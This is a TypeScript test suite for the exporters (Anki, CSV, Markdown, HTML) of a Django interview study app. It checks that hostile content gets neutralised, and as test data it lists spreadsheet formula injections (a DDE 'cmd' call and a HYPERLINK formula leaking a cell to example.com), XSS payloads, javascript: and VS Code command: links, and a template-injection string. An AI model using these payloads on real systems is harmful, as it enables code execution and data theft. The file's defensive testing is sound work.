import assert from 'node:assert/strict';
import fc from 'fast-check';
import { createHash } from 'node:crypto';
import Papa from 'papaparse';
import { ankiColumns, ankiFile, ankiFileInSteps } from '../../../src/study/exchange/anki';
import { harmlessCell, harmlessHtml } from '../../../src/study/exchange/cells';
import { cheatSheetInSteps } from '../../../src/study/exchange/cheatSheet';
import { progressColumns, progressCsv } from '../../../src/study/exchange/progressCsv';
import type { ExportedQuestion } from '../../../src/study/exchange/question';
import {
  questionsMarkdown,
  questionsMarkdownInSteps,
} from '../../../src/study/exchange/questionsMarkdown';
import { studySheet, studySheetInSteps } from '../../../src/study/exchange/studySheet';
import { findQuestions } from '../../../src/study/importing';
import { withLinks } from '../../../src/study/markdown/sourceLinks';
import { parsePack, questionBody } from '../../../src/study/pack';
import type { Progress, QuestionRecord } from '../../../src/study/progress';
import type { Steps } from '../../../src/study/steps';
import { readPackFolder } from '../repository';

const files = readPackFolder('questions');

/** All built-in questions, as they are exported. */
const builtIn: readonly ExportedQuestion[] = parsePack(files).collections.flatMap(collection =>
  collection.categories.flatMap(category =>
    category.questions.map(question => ({
      question,
      collection,
      category,
      body: questionBody(
        files.find(({ path }) => path === question.source.file)!.text,
        question.source,
      ),
      note: '',
    })),
  ),
);

/** A question from a hostile pack, with a hostile note. */
function hostile(text: string): ExportedQuestion {
  const source = { file: 'x.md', startLine: 0, endLine: 9, bodyLine: 1 };
  const question = { id: text, title: text, hint: text, source };
  const category = { id: `x/${text}`, title: text, questions: [question] };
  const collection = { id: 'x', title: text, introduction: '', tips: [], categories: [category] };
  return { question, collection, category, body: `### In short\n\n${text}`, note: text };
}

/** A question with an exercise, whose solution says SECRET. */
function exercised(): ExportedQuestion {
  const body = [
    '### In short\n\nText',
    '### Exercise {kind="repair" minutes="15"}\n\nMend it.',
    '```python title="checks/test_a.py" check\nclass A(TestCase):\n    def test_a(self): SECRET\n```',
    '```python title="a.py" solution\nSECRET\n```',
    '#### Hint\n\nSECRET',
  ].join('\n\n');
  return { ...hostile('x'), body, note: '' };
}

/** A question with a picture in its hint, one in its answer, and an unread one. */
function pictured(): ExportedQuestion {
  const plain = hostile('x');
  return {
    ...plain,
    question: { ...plain.question, hint: '![a hint](hint.png)' },
    body: '### In short\n\n![an answer](answer.png)\n\n![elsewhere](https://example.com/x.png)',
    images: new Map([
      ['hint.png', 'data:image/png;base64,aGludA=='],
      ['answer.png', 'data:image/png;base64,YW5zd2Vy'],
    ]),
  };
}

const formulas = [
  '=HYPERLINK("https://example.com?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=1\n+2',
  'a; =1+1',
  'a;"=1+1";b',
  'a\t-1+1',
  ';;\n\n@SUM(1)',
  ' =1+1',
  '＝1＋1',
  'a;＠SUM(1)',
  '－2',
];

/** A cell that is a formula in a spreadsheet, however it splits the text and quotes. */
function formulasIn(text: string): string[] {
  return text.split(/[;\t\r\n]/).filter(cell => /^[\s"]*[=+\-@＝＋－＠]/.test(cell));
}

describe('an export of many questions', () => {
  const texts = { language: 'en', title: '', subtitle: '', contents: '', hint: '', note: '' };
  const writers: readonly (readonly [what: string, steps: () => Steps<string>, text: string])[] = [
    ['cards', () => ankiFileInSteps(builtIn), ankiFile(builtIn)],
    ['a study sheet', () => studySheetInSteps(builtIn, texts), studySheet(builtIn, texts)],
    ['Markdown', () => questionsMarkdownInSteps(builtIn, texts), questionsMarkdown(builtIn, texts)],
    ['a cheat sheet', () => cheatSheetInSteps(builtIn, { ...texts, noAnswer: '' }), ''],
  ];
  for (const [what, write, text] of writers) {
    it(`pauses after each of them: ${what}`, () => {
      const steps = write();
      let pauses = 0;
      let step = steps.next();
      for (; !step.done; step = steps.next()) pauses++;
      assert.ok(pauses >= builtIn.length, String(pauses));
      if (text !== '') assert.equal(step.value, text);
    });
  }
});

describe('questions for Anki', () => {
  const read = (text: string) => {
    const lines = text.split('\n');
    const headers = lines.filter(line => line.startsWith('#') && line.includes(':'));
    const rest = lines.slice(headers.length).join('\n');
    const { data, errors } = Papa.parse<string[]>(rest, { delimiter: '\t', skipEmptyLines: true });
    assert.deepEqual(errors, []);
    return { headers, data };
  };

  it('begin with the headers of the manual', () => {
    assert.deepEqual(read(ankiFile([])).headers, [
      '#separator:tab',
      '#html:true',
      '#notetype:Django Interview',
      '#columns:Id\tQuestion\tHint\tAnswer\tDeck\tTags',
      '#deck column:5',
      '#tags column:6',
    ]);
  });

  it('are a row each, with the id first', () => {
    const { data } = read(ankiFile(builtIn));
    assert.deepEqual(
      data.map(([id]) => id),
      builtIn.map(({ question }) => question.id),
    );
    for (const row of data) assert.equal(row.length, ankiColumns.length);
    const [row] = data.filter(([id]) => id === 'signals');
    assert.equal(row![1], 'What are Django signals and how can they be used?');
    assert.match(row![3]!, /^<h4>In short<\/h4>/);
    assert.equal(
      row![4],
      'Django Interview::Django Interview Questions: Prepare to Shine::Intermediate',
    );
    assert.equal(row![5], 'django-interview::prepare-to-shine::intermediate');
  });

  it('have no cell that is a formula, no raw HTML and no line of their own that is a comment', () => {
    for (const text of [...formulas, '<img src=x onerror=alert(1)>', '#comment', '"quoted"\t"']) {
      const { data } = read(ankiFile([hostile(text)]));
      assert.equal(data.length, 1, text);
      for (const cell of data[0]!) {
        assert.deepEqual(formulasIn(cell), [], text);
        assert.doesNotMatch(cell, /^[\t\r\n]/, text);
      }
      // Deck and tags are not HTML.
      for (const cell of data[0]!.slice(0, 4)) assert.doesNotMatch(cell, /<img|<script/, text);
    }
  });

  it('have no tag that makes Anki run LaTeX or play a file', () => {
    for (const tag of [
      '[latex]x[/latex]',
      '[$]x[/$]',
      '[$$]x[/$$]',
      '[SOUND:x.mp3]',
      '[anki:tts]',
    ]) {
      const text = `a ${tag} b \`${tag}\` [c]`;
      const { data } = read(ankiFile([hostile(text)]));
      for (const cell of data[0]!.slice(1, 4)) {
        assert.doesNotMatch(cell, /\[\/?(?:latex|\$|sound|anki)/i);
        const shown = cell.replace(/&#91;/g, '[').replace(/<\/?\w+>/g, '');
        assert.ok(shown.includes(`a ${tag} b ${tag} [c]`), cell);
      }
    }
  });

  it('have no formula that Anki typesets, since it may run a script, but in code', () => {
    const link = String.raw`\\(\\href{javascript:a()}{b}\\)`;
    const shown = link.replaceAll('\\\\', '\\');
    const text = `${link} $${shown}$ \\\\[c\\\\] \`${shown}\``;
    const one = hostile(text);
    const file = ankiFile([{ ...one, question: { ...one.question, id: 'x' } }]);
    for (const cell of read(file).data[0]!.slice(1, 4)) {
      assert.doesNotMatch(cell.replace(/<code>.*?<\/code>/g, ''), /\\[([]/);
      assert.ok(cell.includes(`<code>${shown}</code>`), cell);
      assert.ok(cell.replaceAll('\u2060', '').includes(`${shown} $${shown}$`), cell);
    }
    const [reading] = findQuestions('a.txt', file).readings;
    assert.ok(!JSON.stringify(reading).includes('\u2060'));
  });

  it('have the pictures of hint and answer in them', () => {
    const [[, , hint, answer] = []] = read(ankiFile([pictured()])).data;
    assert.match(hint!, /^<p><img src="data:image\/png;base64,aGludA==" alt="a hint"><\/p>/);
    assert.match(answer!, /<img src="data:image\/png;base64,YW5zd2Vy" alt="an answer">/);
    assert.match(answer!, /<p>elsewhere<\/p>/);
  });

  it('show a harmless cell as it was', () => {
    const { data } = read(ankiFile([hostile('=1+1')]));
    assert.equal(data[0]![1], '&#61;1+1');
  });
});

describe('progress as a table', () => {
  const progress: Progress = new Map([
    [
      'signals',
      {
        mastered: [true, 1],
        reviews: [
          { time: 5, rating: 1, duration: 0 },
          { time: 7, rating: 3, duration: 0 },
          { time: 9, rating: 4, duration: 0, undone: [true, 10] },
        ],
      },
    ],
  ]);
  const read = (text: string) => Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;

  it('has a row for each question', () => {
    const text = progressCsv(builtIn, progress, time => `at ${time}`);
    assert.equal(text[0], '\uFEFF');
    const [head, ...rows] = read(text);
    assert.deepEqual(head, [...progressColumns]);
    assert.equal(rows.length, builtIn.length);
    const row = rows.find(([id]) => id === 'signals')!;
    const exercise = ['not begun', '', '', '', ''];
    assert.deepEqual(row.slice(4), ['yes', 'no', 'no', '2', '1', 'at 7', '3', ...exercise, '']);
  });

  it('says of each exercise how far it is', () => {
    const cells = (record: QuestionRecord, id = 'signals') => {
      const rows = read(progressCsv(builtIn, new Map([[id, record]]), time => `at ${time}`));
      const first = rows[0]!.indexOf('exercise');
      return rows.find(([each]) => each === id)!.slice(first, first + 5);
    };
    const begun: QuestionRecord = { exerciseStarted: [5, 5], exerciseSeconds: [90, 6] };
    assert.deepEqual(cells(begun), ['begun', '', '2', '0', 'no']);
    const helped: QuestionRecord = { ...begun, exerciseHints: [1, 7], exerciseSeen: [8, 8] };
    const solved: QuestionRecord = { ...helped, exerciseSolved: [9, 9] };
    assert.deepEqual(cells(solved), ['solved', 'at 9', '2', '1', 'yes']);
    const without = builtIn.find(({ question }) => question.exercise === undefined)!;
    assert.deepEqual(cells({}, without.question.id), ['', '', '', '', '']);
  });

  it('has no cell that is a formula', () => {
    for (const text of formulas) {
      const written = progressCsv([hostile(text)], new Map(), String);
      const rows = read(written);
      assert.deepEqual(formulasIn(written), [], text);
      for (const cell of rows[1]!) assert.doesNotMatch(cell, /^[\t\r\n]/, text);
      // Only apostrophes were added.
      assert.equal(rows[1]![1]!.replaceAll("'", ''), text.replaceAll("'", ''));
    }
  });
});

describe('questions as Markdown', () => {
  it('are a pack that reads back with every question, hint and answer', () => {
    const text = questionsMarkdown(builtIn, { note: 'My note' });
    const { collections, problems } = parsePack([{ path: 'exported.md', text }]);
    assert.deepEqual(
      problems.filter(({ severity }) => severity !== 'information'),
      [],
    );
    const questions = collections.flatMap(({ categories }) =>
      categories.flatMap(category => category.questions.map(question => ({ question, category }))),
    );
    assert.deepEqual(
      questions.map(({ question, category }) => [
        question.id,
        question.title,
        question.hint,
        category.title,
        questionBody(text, question.source).trim(),
      ]),
      builtIn.map(({ question, category, body }) => [
        question.id,
        question.title,
        question.hint,
        category.title,
        body.trim(),
      ]),
    );
  });

  it('have no link that another’s pack would have VS Code carry out, and no other change', () => {
    const link = '[here](command:workbench.action.quit)';
    const theirs = hostile(link);
    const question = {
      ...theirs.question,
      id: 'theirs',
      short: link,
      source: { ...theirs.question.source, pack: 'theirs' },
    };
    const category = { ...theirs.category, short: link };
    const text = questionsMarkdown([{ ...theirs, question, category, note: '' }], { note: '' });
    assert.ok(!text.includes('](command:'), text);
    assert.equal(withLinks(text).split(link).length, 7);
    const own = questionsMarkdown([{ ...theirs, note: '' }], { note: '' });
    assert.equal(own.split('](command:').length, 5, 'one’s own stay');
  });

  it('carry the notes, whose headings are not those of the pack', () => {
    const [first, second] = builtIn;
    const noted = { ...first!, note: '# mine\n\n## also mine {#signals}\n\n```\nnot closed' };
    const text = questionsMarkdown([noted, second!], { note: 'My note' });
    const { collections } = parsePack([{ path: 'exported.md', text }]);
    assert.deepEqual(
      collections.flatMap(({ categories }) =>
        categories.flatMap(({ questions }) => questions.map(({ id }) => id)),
      ),
      [first!.question.id, second!.question.id],
    );
    assert.match(text, /### My note\n\n> # mine\n>\n> ## also mine/);
  });

  for (const [what, body, hint] of [
    ['an open fence', '```python\nx = 1', 'Think'],
    ['an open fence of another kind below a list', '- a\n\n~~~~\nx', undefined],
    ['a heading, as an item of a list may have', 'Text\n\n## Heading\n\nmore', 'Think'],
    ['a heading of the highest level', '# Heading', undefined],
    ['an underlined heading', 'Heading\n---\n\nmore', undefined],
    ['an indented first line', '\n    code = 1\n\nText', 'Think'],
    ['a quotation', '> quoted\n\nText', undefined],
    ['a broken line in the hint', 'Text', 'One  \ntwo'],
  ] as const) {
    it(`keep apart from the next question what has ${what}`, () => {
      const [first, second] = builtIn;
      const question = { ...first!.question, hint };
      const text = questionsMarkdown([{ ...first!, question, body, note: 'Mine' }, second!], {
        note: 'My note',
      });
      const { collections, problems } = parsePack([{ path: 'exported.md', text }]);
      const read = collections.flatMap(({ categories }) =>
        categories.flatMap(({ questions }) => questions),
      );
      assert.deepEqual(
        read.map(one => [one.id, one.hint]),
        [
          [first!.question.id, hint],
          [second!.question.id, second!.question.hint],
        ],
      );
      assert.deepEqual(
        problems.filter(({ severity }) => severity === 'error'),
        [],
      );
      const answer = questionBody(text, read[0]!.source);
      assert.ok(answer.endsWith('### My note\n\n> Mine'), answer);
      if (body.startsWith('\n    ')) assert.ok(answer.startsWith('\n    code = 1'), answer);
    });
  }
});

describe('a study sheet', () => {
  const texts = {
    language: 'en',
    title: 'Django <interview>',
    subtitle: '57 questions',
    contents: 'Contents',
    hint: 'Hint',
    note: 'My note',
  };

  it('has every question with its answer, and a way to each', () => {
    const html = studySheet(builtIn, texts);
    assert.equal(html.match(/<article /g)?.length, builtIn.length);
    const targets = [...html.matchAll(/href="#(\w+)"/g)].map(match => match[1]);
    assert.equal(targets.length, builtIn.length);
    for (const target of targets) assert.ok(html.includes(`id="${target}"`), target);
    assert.match(html, /<title>Django &lt;interview&gt;<\/title>/);
    assert.match(html, /Explain their purpose/);
    assert.match(html, /<h4>In depth<\/h4>/);
  });

  it('loads nothing, runs nothing and sends nothing', () => {
    const attacks = [
      '<script>alert(1)</script>',
      '<img src=https://example.com/x.png>',
      '![x](https://example.com/x.png)',
      '</title></style></head><body onload=alert(1)>',
      '[x](javascript:alert(1))',
      '[x](command:workbench.action.quit)',
      '" onmouseover="alert(1)',
      '{{constructor.constructor("alert(1)")()}}',
    ];
    for (const text of attacks) {
      const html = studySheet([hostile(text)], {
        ...texts,
        title: text,
        subtitle: text,
        note: text,
      });
      const tags = [...html.matchAll(/<(\w+)[^>]*>/g)];
      for (const [tag, name] of tags) {
        assert.ok(
          !['script', 'img', 'iframe', 'link', 'object', 'form', 'base'].includes(name!),
          tag,
        );
        assert.doesNotMatch(tag, /\son\w+\s*=|javascript:|command:/i, text);
      }
      assert.equal(tags.filter(([, name]) => name === 'body').length, 1);
    }
  });

  it('has the pictures of hint and answer in it, and its policy lets them be seen', () => {
    const html = studySheet([pictured()], texts);
    const pictures = [...html.matchAll(/<img src="([^"]*)"/g)].map(([, address]) => address);
    assert.deepEqual(pictures, [
      'data:image/png;base64,aGludA==',
      'data:image/png;base64,YW5zd2Vy',
    ]);
    assert.match(html, /default-src 'none'; img-src data:;/);
    assert.match(html, /<p>elsewhere<\/p>/);
  });

  it('has the task of an exercise, and neither its hints nor its solution', () => {
    for (const file of [studySheet([exercised()], texts), ankiFile([exercised()])]) {
      assert.match(file, /Exercise \(15 min\)/);
      assert.match(file, /Mend it\./);
      assert.doesNotMatch(file, /SECRET/);
    }
    // As a pack it is complete.
    const markdown = questionsMarkdown([exercised()], { note: 'My note' });
    assert.equal(markdown.split('SECRET').length, 4);
  });

  it('allows no style but its own', () => {
    const sheet = studySheet([], texts);
    const [, style] = /<style>(.*)<\/style>/s.exec(sheet)!;
    const hash = createHash('sha256').update(style!).digest('base64');
    assert.ok(
      sheet.includes(
        `content="default-src 'none'; img-src data:; style-src 'sha256-${hash}'; base-uri`,
      ),
    );
    assert.doesNotMatch(sheet, /\sstyle=/);
  });
});

describe('a cell of any text', () => {
  const piece = fc.constantFrom(...Array.from('=+-@＝＠;,\t\r\n "\'a'), '; ', ';"');
  const text = fc.string({ unit: piece, maxLength: 20 });

  it('is no formula, wherever a spreadsheet divides it', () => {
    fc.assert(
      fc.property(text, cell => {
        const harmless = harmlessCell(cell);
        assert.deepEqual(formulasIn(harmless), []);
        assert.equal(harmless.replaceAll("'", ''), cell.replaceAll("'", ''));
        assert.deepEqual(formulasIn(harmlessHtml(cell)), []);
        assert.equal(
          harmlessHtml(cell).replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code))),
          cell,
        );
      }),
    );
  });
});
